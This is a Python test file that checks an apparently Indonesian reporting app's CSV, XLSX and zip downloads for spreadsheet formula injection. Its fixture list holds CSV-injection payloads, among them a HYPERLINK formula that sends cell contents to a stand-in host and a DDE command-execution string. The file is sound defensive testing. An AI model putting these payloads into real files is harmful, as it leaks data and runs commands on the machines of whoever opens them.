"""Issue #16: every download the app produces is safe to open in a spreadsheet.

Hostile text goes into every free-text field and every name; then every file behind a `download_button` in
pages/ is produced from core and its bytes scanned for a live formula: CSV fields, XLSX cells (no formula
cell, no text starting with a trigger), and the members of every zip (round archive, backup).

Downloads (grep pages/ for download_button):
  rekap.py            recap XLSX, recap CSV per view in both dialects, regency recap XLSX, LKjIP measurement XLSX
  koreksi.py          report files of each version (PDF, XLSX)
  dokumentasi.py      report files, round archive (.zip: data/*.csv, riwayat/*.csv, laporan/*), LKjIP (as rekap)
  parts/status_triwulan.py missing list (PDF, XLSX)
  isi_data.py         unit workbook (.xlsx)
  impor.py            import templates PK, RA, DPA (.xlsx)
  jejak_audit.py      audit CSV
  cadangan.py         backup (.zip: files/archive/*.zip scanned)
  isi_data.py, pengolahan.py: evidence files, returned byte for byte as uploaded (not app-written; skipped)
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import itertools
import re
import zipfile

from openpyxl import load_workbook
from sqlalchemy import select

from core import archive, audit_view, backup, exports, imports, recap, regency_recap, report_versions, status
from core.forms import lkjip
from core.steps import dokumentasi, koreksi, pengolahan, penyusunan
from core.unit_workbook import unit_workbook
from db.models import (
    BudgetLine,
    CollectionRound,
    Indicator,
    OrgUnit,
    Realization,
    Review,
    ReviewComment,
    Sasaran,
    StepRecord,
    Submission,
    User,
)
from tests.factories import make_round, submission_of

HOSTILE = ['=HYPERLINK("http://jahat.example/?"&A1,"klik")', "=cmd|' /C calc'!A0", "+1+2", "@SUM(1,2)",
           "-2+3", "\t=1+1", "\r=1+1", "  =1+1", "\n@SUM(A1)"]
NUMBER = re.compile(r"-?\d+(?:[.,]\d+)*(?:[eE][-+]?\d+)?")
TODAY = dt.date(2026, 10, 20)


def _hostile():
    return itertools.cycle(HOSTILE)


def _put(obj, **values: str) -> None:
    """Set text fields, cut to the column's length (PostgreSQL enforces VARCHAR(n))."""
    for attr, value in values.items():
        length = getattr(type(obj).__table__.c[attr].type, "length", None)
        setattr(obj, attr, value[:length] if length else value)


def _poison_master_data(session) -> None:
    """Every name an admin enters: units, users, sasaran, indicators, budget lines."""
    h = _hostile()
    for u in session.scalars(select(OrgUnit)):
        _put(u, name=f"{next(h)[:20]} {u.code}")  # hostile first, still unique per unit
    for u in session.scalars(select(User)):
        _put(u, full_name=next(h), jabatan=next(h), pangkat=next(h))
    for s in session.scalars(select(Sasaran)):
        _put(s, name=next(h))
    for i in session.scalars(select(Indicator)):
        _put(i, name=next(h), satuan=next(h))
    for b in session.scalars(select(BudgetLine)):
        _put(b, program=next(h), kegiatan=next(h), sub_kegiatan=next(h))
    session.flush()


def _poison_round(session, rnd: CollectionRound) -> None:
    """Every free text of a round: instruction, dispositions, notes, kendala, tindak lanjut."""
    h = _hostile()
    _put(rnd, instruction=next(h))
    for sr in session.scalars(select(StepRecord).where(StepRecord.round_id == rnd.id)):
        _put(sr, disposition=next(h))
    for sub in session.scalars(select(Submission).where(Submission.round_id == rnd.id)):
        _put(sub, disposition=next(h))
        for r in session.scalars(select(Realization).where(Realization.submission_id == sub.id)):
            _put(r, note=next(h), kendala=next(h), tindak_lanjut=next(h))
    session.flush()


def _live(value: str) -> bool:
    """The scan's own rule (not the one under test): a spreadsheet may run this text as a formula."""
    return value[:1] in ("\t", "\r") or value.lstrip()[:1] in ("=", "+", "-", "@")


def _scan_text_field(where: str, value: str, bad: list[str]) -> None:
    if _live(value) and not NUMBER.fullmatch(value.strip()):
        bad.append(f"{where}: {value!r}")


def _scan(name: str, data: bytes, bad: list[str], seen: dict[str, int]) -> None:
    """Append every live formula found in the file (recursing into zips) to `bad`; count the files."""
    lower = name.lower()
    if lower.endswith(".csv"):
        seen["csv"] = seen.get("csv", 0) + 1
        text = data.decode("utf-8-sig")
        delimiter = ";" if text.split("\n", 1)[0].count(";") >= text.split("\n", 1)[0].count(",") else ","
        for r, row in enumerate(csv.reader(io.StringIO(text), delimiter=delimiter), start=1):
            for c, value in enumerate(row, start=1):
                _scan_text_field(f"{name} baris {r} kolom {c}", value, bad)
    elif lower.endswith(".xlsx"):
        seen["xlsx"] = seen.get("xlsx", 0) + 1
        wb = load_workbook(io.BytesIO(data))
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    if cell.data_type == "f":
                        bad.append(f"{name}!{ws.title}!{cell.coordinate}: formula {cell.value!r}")
                    elif isinstance(cell.value, str):
                        _scan_text_field(f"{name}!{ws.title}!{cell.coordinate}", cell.value, bad)
    elif lower.endswith(".zip"):
        seen["zip"] = seen.get("zip", 0) + 1
        with zipfile.ZipFile(io.BytesIO(data)) as z:
            for member in z.namelist():
                if member.startswith("files/uploads/"):
                    continue  # evidence as uploaded, byte for byte: not written by the app
                _scan(f"{name}/{member}", z.read(member), bad, seen)


def _downloads(session, actors, tmp_path) -> dict[str, bytes]:
    """Every file a download button offers, produced from core as the pages do."""
    office_id = actors["penyusun"].office_id
    _poison_master_data(session)
    rnd = make_round(session, at="penyusunan", state="diterima", evidence=True)
    _poison_round(session, rnd)
    sub = submission_of(session, rnd, "BID-LATTAS")
    ind = session.scalar(select(Realization).where(Realization.submission_id == sub.id)).indicator_id
    # step 4 is behind this round: its comment and an earlier return are written as step 4 left them
    penyusun, kabid = (session.get(User, actors[n].user_id) for n in ("penyusun", "kabid_lattas"))
    session.add(ReviewComment(submission_id=sub.id, indicator_id=ind, text=HOSTILE[0], author_id=penyusun.id,
                              response=HOSTILE[1], responded_by_id=kabid.id, resolved=True))
    session.add(Review(submission_id=sub.id, decision="dikembalikan", reason=HOSTILE[2], reviewer_id=penyusun.id))
    session.flush()
    draft = penyusunan.compile_draft(session, actors["penyusun"], rnd.id, note=HOSTILE[2])
    koreksi.send_to_planner(session, actors["sekdis"], rnd.id, note=HOSTILE[3])
    line = next(ln for ln in draft.lines if str(ln["key"]).startswith("IND:"))
    koreksi.add_correction(session, actors["perencana"], draft.id, line["key"], "kendala", HOSTILE[4],
                             proposed_value=HOSTILE[0])
    fixed = koreksi.apply_corrections(session, actors["penyusun"], rnd.id, note=HOSTILE[5])
    koreksi.hand_over(session, actors["perencana"], rnd.id, note=HOSTILE[6])
    arc = dokumentasi.document(session, actors["penyusun"], rnd.id, note=HOSTILE[7])
    session.flush()

    # a second, running round: a unit returned with a hostile reason, others missing (the missing list)
    running = make_round(session, at="pengolahan", year=2026, quarter=4,
                         states={"BID-LATTAS": "diajukan", "BID-HIJS": "draf"})
    _poison_round(session, running)
    pengolahan.return_submission(session, actors["penyusun"], submission_of(session, running, "BID-LATTAS").id,
                             HOSTILE[8] + " mohon perbaiki data")
    session.commit()

    files: dict[str, bytes] = {}
    b = recap.bundle(session, office_id, 2026, 3)
    views = recap.views(b)
    sig = exports.signer(session, office_id)
    files["rekap.xlsx"] = exports.to_xlsx(views, "Rekap", sig.office_name, "TW III 2026", sig, TODAY)
    for view_name, df in views.items():
        for dialect in exports.DIALECTS:
            files[f"rekap-{view_name}-{dialect}.csv"] = exports.to_csv(df, dialect)
    files["pengukuran-kinerja-lkjip.xlsx"] = lkjip.download(session, office_id, 2026, "xlsx")
    files["rekap-kabupaten.xlsx"] = regency_recap.annual_all_offices_xlsx(session, actors["admin"], 2026, TODAY)
    for rep in (draft, fixed):
        for f in report_versions.report_file_items(session, actors["penyusun"], rep.id):
            files[f"laporan-v{rep.version}-{f.name}"] = f.content
    files["arsip.zip"] = archive.archive_download(session, actors["penyusun"], arc.id)[1]
    for name, _media, data in status.missing_list_files(session, office_id, running.id, TODAY).values():
        files[f"kekurangan-{name}"] = data
    files["lembar-kerja.xlsx"] = unit_workbook(session, actors["kabid_lattas"],
                                               submission_of(session, running, "BID-LATTAS").id)
    for kind in imports.KINDS:
        files[f"templat-{kind}.xlsx"] = imports.template(kind, session, office_id, 2026)
    files["jejak-audit.csv"] = audit_view.to_csv(audit_view.entries(session, actors["admin"]))
    path = backup.make_backup(session, actors["admin"], tmp_path / "cadangan")
    session.commit()
    files["cadangan.zip"] = backup.backup_bytes(path)
    return files


def test_every_download_is_free_of_live_formulas(session, actors, tmp_path):
    files = _downloads(session, actors, tmp_path)
    bad: list[str] = []
    seen: dict[str, int] = {}
    for name, data in files.items():
        _scan(name, data, bad, seen)
    assert not bad, "live formulas:\n" + "\n".join(bad[:40])
    # the scan really read the files that carry the hostile text, neutralised
    assert seen["zip"] >= 3 and seen["csv"] >= 10 and seen["xlsx"] >= 8, seen
    for name in ("rekap.xlsx", "pengukuran-kinerja-lkjip.xlsx", "lembar-kerja.xlsx", "templat-PK.xlsx", "kekurangan-" + next(
            n[len("kekurangan-"):] for n in files if n.startswith("kekurangan-") and n.endswith(".xlsx"))):
        wb = load_workbook(io.BytesIO(files[name]))
        texts = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
        assert any(t.startswith("'") and _live(t[1:]) for t in texts), name
    with zipfile.ZipFile(io.BytesIO(files["arsip.zip"])) as z:
        data_csv = z.read("data/realisasi-indikator.csv").decode("utf-8-sig")
        assert "'=HYPERLINK" in data_csv or "'=cmd" in data_csv
        assert "'" + HOSTILE[4] in z.read("riwayat/koreksi.csv").decode("utf-8-sig")
    assert "'" in files["jejak-audit.csv"].decode("utf-8-sig")


def test_numbers_stay_numbers_in_the_workbooks(session, actors, tmp_path):
    """The writer rule touches text only: targets, values and pagu are numeric cells, never text."""
    files = _downloads(session, actors, tmp_path)
    wb = load_workbook(io.BytesIO(files["lembar-kerja.xlsx"]))
    ws = wb["Indikator"]
    header = [c.value for c in ws[4]]
    col = header.index("Target TW (RA)") + 1
    values = [ws.cell(r, col).value for r in range(5, ws.max_row + 1) if ws.cell(r, col).value is not None]
    assert values and all(isinstance(v, (int, float)) for v in values)
    pk = load_workbook(io.BytesIO(files["templat-PK.xlsx"]))["PK"]
    assert all(isinstance(r[0], int) for r in pk.iter_rows(min_row=2, max_col=1, values_only=True) if r[0])
    for name in (n for n in files if n.endswith("excel_id.csv")):
        rows = list(csv.reader(io.StringIO(files[name].decode("utf-8-sig")), delimiter=";"))
        assert not [v for row in rows for v in row if v.startswith("'") and NUMBER.fullmatch(v[1:])], name
